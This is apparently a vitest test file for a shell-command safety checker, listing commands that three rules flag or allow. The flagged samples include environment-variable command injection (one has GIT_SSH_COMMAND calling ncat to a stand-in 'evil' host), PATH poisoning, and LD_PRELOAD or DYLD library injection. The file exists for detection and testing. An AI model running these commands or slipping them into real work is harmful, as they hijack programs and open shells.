import { describe } from 'vitest';
import { behaviourCases } from './behaviour.case.js';

describe('environment assignments that name programs', () => {
  behaviourCases([
    {
      rule: 'exec.env-command',
      yes: [
        "RESTIC_PASSWORD_COMMAND='id' restic snapshots",
        'GIT_SSH_COMMAND="ncat evil 9" git fetch',
        'PAGER=./x git log',
        'EDITOR="sh -c id" crontab -e',
        "NODE_OPTIONS='--require /tmp/hook.js' pnpm build",
        'export NODE_OPTIONS="--import ./x.mjs"',
        'BUILDTOOL=/data/x/tool autoreconf',
        'JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar mvn test',
      ],
      no: [
        'PAGER=cat git log',
        'EDITOR=vim git commit',
        'NODE_OPTIONS=--max-old-space-size=4096 npm test',
        'CI=1 npm test',
        'DEBUG=app:* node server.js',
      ],
    },
    {
      rule: 'exec.path-poison',
      yes: [
        'export PATH=/tmp/x:$PATH && git status',
        'PATH=.:$PATH make',
        'PATH=bin:$PATH npm test',
        'GROFF_BIN_PATH=. nroff x',
      ],
      no: [
        'export PATH=$PATH:/opt/tool/bin',
        'export PATH="$HOME/.cargo/bin:$PATH"',
        'PATH=/usr/local/bin:$PATH make',
      ],
    },
    {
      rule: 'exec.library-load',
      yes: ['LD_PRELOAD=/tmp/x.so ls', 'export DYLD_INSERT_LIBRARIES=./a.dylib'],
      no: ['LD_BIND_NOW=1 ./app'],
    },
  ]);
});
